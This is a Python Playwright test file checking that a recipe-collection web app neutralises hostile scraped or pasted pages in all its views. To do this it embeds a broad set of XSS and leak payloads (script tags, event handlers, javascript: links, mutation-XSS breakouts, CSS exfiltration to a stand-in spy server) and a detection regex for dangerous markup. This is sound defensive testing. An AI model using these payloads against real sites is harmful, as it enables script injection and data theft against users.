"""Pages that attack whoever looks at them, in every view of the app: nothing of theirs
runs, and nothing is asked of anybody.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, expect

from growing_site import GrowingSite, Recipe, Served
from scythe.collect.collection import Collection
from web_visit import DESK, AppServer, Visitor

VIEWS = (
    "",
    "/records",
    "/records?q=soup",
    "/records/1",
    "/records/1/edit",
    "/records/1/cook",
    "/records?view=table",
    "/records?view=table&column=ingredients&sort=title",
    "/records?q=soup&sort=changed&state=all",
    "/facets/ingredients?find=s",
    "/annotate",
    "/annotate?unused=1",
    "/links",
    "/links?q=soup&decision=record",
    "/links/rule?action=never&scope=pattern&value=/recipes/*",
    "/links/rule?action=never&scope=list&value={url}&back=annotate",
    "/annotate/notices/{notice}",
    "/annotate/slot?slot=section:ingredients",
    "/review",
    "/settings",
    "/../../records?q=soup",
    "/../../collections",
    "/../../",
)
EXTRACTED = ("rendered", "markdown", "text", "json", "methods", "records")
"""The views of an extracted page."""
SAVED = ("/records/1/original", "/pages/{page}/frame")
"""Where the page of a record itself is what is seen; no script runs there, not even the
tests'.
"""
LIVE = """() => [document, ...[...document.querySelectorAll('iframe')].map(frame => frame.contentDocument)].flatMap(page =>
    [...page.querySelectorAll('script:not([src^="/static/"]), [onerror], [onload], [onclick], a[href]')]
        .filter(node => node.tagName != 'A' || !['http:', 'https:'].includes(node.protocol)).map(node => node.outerHTML))"""
"""What can run, on a page of ours and in its frames."""
SCRIPT = "window.top.stolen=1;window.stolen=1;alert(1)"
TITLE = f'<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">\'"&amp;{{{{7*7}}}} soup no. '


@dataclass
class HostileSite(GrowingSite):
    """Recipes whose pages hold all that pages use to get out."""

    spy: str = ""
    has_news: bool = False
    """Whether its pages have something new, for a notice."""

    def _recipe(self, recipe: Recipe) -> str:
        good, spy = super()._recipe(recipe), self.spy
        attacks = f"""
            <script>{SCRIPT}</script><script src="{spy}/script.js"></script><svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>
            <img src="{spy}/img.png" onerror="{SCRIPT}" srcset="{spy}/srcset.png 2x">
            <picture><source srcset="{spy}/source.png"></picture>
            <iframe src="{spy}/frame" srcdoc="<script>{SCRIPT}</script>"></iframe><object data="{spy}/object"></object>
            <embed src="{spy}/embed"><video src="{spy}/video" poster="{spy}/poster" autoplay></video><audio src="{spy}/a"></audio>
            <a id=jump href="javascript:{SCRIPT}" target=_top>Press here</a><a href="{spy}/ping" ping="{spy}/ping2">Or here</a>
            <form action="{spy}/form"><input name=a value=b><button formaction="javascript:{SCRIPT}">Send</button></form>
            <style>@import "{spy}/import.css"; body{{background:url({spy}/css.png)}} li::after{{content:url({spy}/content.png)}}
            @font-face{{font-family:x;src:url({spy}/font.woff)}} h1{{font-family:x}} input[value^=b]{{background:url({spy}/leak)}}
            </style><p style="background:url('{spy}/style.png');position:fixed;bottom:0;z-index:9">over all</p>
            <link rel=stylesheet href="{spy}/sheet.css"><link rel=prefetch href="{spy}/prefetch"><link rel=icon href="{spy}/icon">
            <base href="{spy}/base/"><meta http-equiv=refresh content="4;url={spy}/refresh">
            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={SCRIPT}&gt;"></math>
            <noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript>
            <template><img src=x onerror="{SCRIPT}"></template>
            <textarea></textarea><script>{SCRIPT}</script></textarea>
            <body onload="{SCRIPT}" onpageshow="{SCRIPT}" background="{spy}/body.png">
            <div onmouseover="{SCRIPT}" onclick="{SCRIPT}">x</div>{"<div>" * 3000}deep{"</div>" * 3000}"""
        news = ""
        if self.has_news:
            news = f"<p>{escape(TITLE)}: lasts {recipe.minutes} days</p>"
        good = good.replace("<h2>Ingredients", f"{news}<h2>Ingredients")
        return good.replace("<footer>", attacks + "<footer>")


@pytest.fixture
def spy() -> Iterator[Served]:
    with Served(GrowingSite()) as served:
        yield served


@pytest.fixture
def hostile(spy: Served, database: str) -> Iterator[str]:
    """A database with what was collected from a hostile site."""
    site = HostileSite(spy=spy.url)
    site.grow(1, 8)
    for number, recipe in enumerate(site.recipes.values()):
        recipe.title = f"{TITLE}{number}"
        recipe.ingredients[0] = f"<img src=x onerror={SCRIPT}> 100 g salt"
    with Served(site) as served:
        with Collection.add(
            served.url, "hostile", "recipe", db=database, delay=0.0, render=False
        ) as collection:
            collection.run()
            collection.accept_suggestions()
            collection.save_search(TITLE[:80], "?q=soup")
            site.has_news = True
            collection.run(refetch_all=True)
        yield database


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_nothing_of_a_page_runs_or_asks(
    hostile: str, spy: Served, window: Browser
) -> None:
    asked_by_the_crawler = len(spy.site.asked)
    with AppServer(hostile) as app:
        visitor = Visitor(window.new_page(viewport=DESK))
        page = visitor.page
        home = f"{app.url}/collections/hostile"
        with Collection.open("hostile", db=hostile) as collection:
            record, notice = collection.record(1), collection.notices()[0]
        number = record.page_id
        for path in VIEWS:
            page.goto(home + path.format(url=quote(record.url), notice=notice.id))
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.stolen") is None, path
            assert page.evaluate(LIVE) == [], path
        for path in SAVED:
            answer = page.goto(home + path.format(page=number))
            assert answer
            assert "sandbox" in answer.headers["content-security-policy"]
            assert not re.search(
                r"<(script|iframe|object|embed|base|meta http-equiv)|<[^>]*(\son\w+=|javascript:)",
                answer.text(),
            )
            page.wait_for_timeout(300)
        page.goto(f"{home}/annotate")
        inside = page.frame_locator("iframe#example")
        expect(inside.locator("h1")).to_contain_text("soup no.")
        inside.locator("h1").click()
        page.locator("#chosen").get_by_label("Name").fill("headline")
        expect(page.locator("#chosen .preview h3")).to_be_visible()
        assert page.evaluate(LIVE) == []
        inside.locator("#jump").click()
        page.wait_for_timeout(300)
        assert page.url.startswith(f"{home}/annotate")
        visitor.shoot("hostile")
        assert visitor.hosts() == {app.url.removeprefix("http://")}
        assert len(spy.site.asked) == asked_by_the_crawler, spy.site.asked[
            asked_by_the_crawler:
        ]
        assert visitor.problems == []
        page.context.close()


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_pasted_pages_are_as_harmless(
    database: str, spy: Served, window: Browser
) -> None:
    site = HostileSite(spy=spy.url)
    site.grow(1, 1)
    (recipe,) = site.recipes.values()
    recipe.title = TITLE
    with AppServer(database) as app:
        visitor = Visitor(window.new_page(viewport=DESK))
        page = visitor.page
        page.goto(f"{app.url}/extract")
        page.get_by_text("Or paste its HTML").click()
        page.locator("textarea").fill(site._recipe(recipe))
        page.get_by_role("button", name="Extract").click()
        page.wait_for_load_state("networkidle")
        for view in EXTRACTED:
            page.goto(re.sub(r"show=\w+", f"show={view}", page.url))
            page.wait_for_load_state("networkidle")
            expect(page.get_by_role("heading", level=1)).to_be_visible()
            assert page.evaluate("window.stolen") is None
            assert page.evaluate(LIVE) == []
        visitor.shoot("hostile-extract")
        assert visitor.hosts() == {app.url.removeprefix("http://")}
        assert spy.site.asked == []
        page.context.close()
